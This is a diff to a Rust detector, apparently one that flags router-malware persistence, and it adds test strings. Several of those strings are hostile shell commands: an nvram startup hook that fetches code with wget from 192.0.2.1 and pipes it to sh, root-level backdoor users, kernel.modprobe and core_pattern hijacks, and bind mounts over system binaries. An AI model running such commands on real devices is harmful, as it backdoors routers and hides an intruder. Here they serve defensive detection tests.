@@ -6,7 +6,7 @@
 //! management ports for everybody, accept an odd port or a public network, remove all rules, or send traffic on to a
 //! public address; keys, users, preloaded libraries, jobs and startup files that a startup file writes; fixed
 //! resolvers and names; records of logins that are emptied; other login services and the watchdog that are ended;
-//! programs to reboot that are removed; a mount over a process.
+//! programs to reboot that are removed; a mount over a program or a process.
 //!
 //! # Why it matters
 //! What stays on a router wants to be the only one there and to be let in again: Mozi and Hajime close the ports they
@@ -17,8 +17,9 @@
 //! a network, a rate or a destination, for ports of VPNs, for targets on the local network, resolvers that everybody
 //! uses, jobs and startup lines that run something in a system place, and firewall scripts that begin by removing all
 //! rules. An owner's own rule that closes telnet for everybody, or a key that a provisioning script writes, is
-//! `suspicious`: it cannot be told from a stranger's. Values that are computed, files that iptables-restore or `nft
-//! -f` reads, and shells of programs with other names are missed.
+//! `suspicious`: it cannot be told from a stranger's. Of files for iptables-restore and `nft -f` those in the usual places
+//! are read. Values that are computed, a job that `crontab FILE` takes over, and shells of programs with other names are
+//! missed.
 //!
 //! # Sources
 //! iptables-extensions(8); nft(8); nc(1); socat(1); bash(1) REDIRECTION; BusyBox networking/{nc,telnetd}.c; hosts(5);
@@ -43,7 +44,7 @@ pub const CHECK: Check = Check {
 };
 
 /// What each thing weighs, in words, and in files of which names nobody is surprised.
-const WEIGHTS: [(Deed, Severity, &str, &[&[u8]]); 31] = [
+const WEIGHTS: [(Deed, Severity, &str, &[&[u8]]); 32] = [
     (Deed::GivesShell, Severity::Infected, "joins a shell to the network", &[]),
     (Deed::OpensConnection, Severity::Suspicious, "opens a connection to take orders from", &[]),
     (Deed::GivesProgram, Severity::Notice, "lets the network run a program", &[]),
@@ -84,6 +85,7 @@ const WEIGHTS: [(Deed, Severity, &str, &[&[u8]]); 31] = [
     (Deed::KillsLogin, Severity::Notice, "ends a login service", LOGINS),
     (Deed::StopsWatchdog, Severity::Notice, "stops the watchdog", &[b"watchdog", b"rcK", b"shutdown"]),
     (Deed::RemovesReboot, Severity::Suspicious, "removes programs to reboot", &[]),
+    (Deed::CoversProgram, Severity::Suspicious, "mounts an odd file over a program", &[]),
     (Deed::HidesProcess, Severity::Infected, "mounts over a process", &[]),
 ];
 
@@ -201,6 +203,24 @@ mod tests {
             b"for d in telnetd sshd; do kill -9 $(pidof $d); done",
             b"rm -f /sbin/reboot /usr/sbin/shutdown",
             b"chmod 000 /sbin/reboot",
+            b"mv /sbin/reboot /sbin/.r",
+            b"uci set firewall.x=include; uci set firewall.x.path=/tmp/.x",
+            b"uci set dhcp.@dnsmasq[0].dhcpscript='/dev/shm/x'",
+            b"nvram set rc_startup='wget -qO- http://192.0.2.1/x | sh'; nvram commit",
+            b"nvram set script_fire=/tmp/.x",
+            b"dd if=/tmp/x of=/etc/init.d/S99x",
+            b"install -m 755 /tmp/x /etc/init.d/x",
+            b"mount -o bind,ro /tmp/.x /usr/sbin/dropbear",
+            b"mount -o bind /tmp/.x /usr/sbin/dropbear",
+            b"mount --bind /dev/shm/ps /bin/ps",
+            b"for p in 22 23 80; do iptables -A INPUT -p tcp --dport $p -j DROP; done",
+            b"sed -i '$a x::0:0::/:/bin/sh' /etc/passwd",
+            b"sed -i 's#^exit 0#/tmp/.x; exit 0#' /etc/rc.local",
+            b"useradd -o -u 0 x",
+            b"adduser -D -u 0 x",
+            b"sysctl -w kernel.modprobe=/tmp/x",
+            b"sysctl -w kernel.core_pattern='|/tmp/x'",
+            b"tcp dport 443 counter dnat ip to 192.0.2.1:8080",
         ] {
             assert_eq!(said(text), [Severity::Suspicious], "{}", String::from_utf8_lossy(text));
         }
@@ -227,6 +247,10 @@ mod tests {
             b"killall telnetd",
             b"echo V > /dev/watchdog",
             b"echo /usr/bin/x >> /etc/rc.local",
+            b"echo root:x | chpasswd",
+            b"echo \"$line\" >> /etc/passwd",
+            b"(echo x; echo x) | passwd root",
+            b"set network.wan.dns=192.0.2.53",
         ] {
             assert_eq!(said(text), [Severity::Notice], "{}", String::from_utf8_lossy(text));
         }
@@ -271,6 +295,15 @@ mod tests {
             b"exec 3<>/dev/tcp/127.0.0.1/80; timeout 1 bash -c \"exec 4<>/dev/tcp/$h/$p\"",
             b"grep -q ^x: /etc/passwd || echo 'x:*:200:200:x:/var/run/x:/bin/false' >> /etc/passwd",
             b"echo \"x:x:${n}:${n}:x:/opt/x:/bin/false\" >> /etc/passwd",
+            b"mount --bind /usr/lib/x/procd /sbin/procd; mount -o bind /tmp/hosts /etc/hosts",
+            b"uci set firewall.x.path=/var/etc/x.include; uci set firewall.y.path=/etc/y; uci set samba.x.path=/tmp/share",
+            b"nvram set rc_startup='sleep 5; /jffs/start.sh'; nvram set script_usbmount=/mnt/sda1/x.sh",
+            b"dd if=/dev/zero of=/tmp/x; dd if=/etc/x of=/etc/init.d/y; install -m 755 /usr/share/x /etc/init.d/x",
+            b"mv /tmp/reboot /sbin/reboot; mv /var/log/wtmp /var/log/wtmp.1",
+            b"sed -i '$a x:*:200:200::/var:/bin/false' /etc/passwd; sed -i \"s|^root:[^:]*:|root:$hash:|\" /etc/shadow",
+            b"useradd -r -u 200 x; adduser -S x; sysctl -w net.ipv4.ip_forward=1",
+            b"sysctl -w kernel.core_pattern=/tmp/core; sysctl -w kernel.core_pattern='|/bin/false'",
+            b"-A INPUT -i br-lan -p tcp --dport 23 -j DROP; tcp dport 80 dnat ip to 192.168.1.2; set -- $x",
             b"echo 'x:!:0:0:99999:7:::' >> /etc/shadow; echo 'x:x:25:25::/:/sbin/nologin' >> /etc/passwd",
         ] {
             assert_eq!(said(text), [], "{}", String::from_utf8_lossy(text));
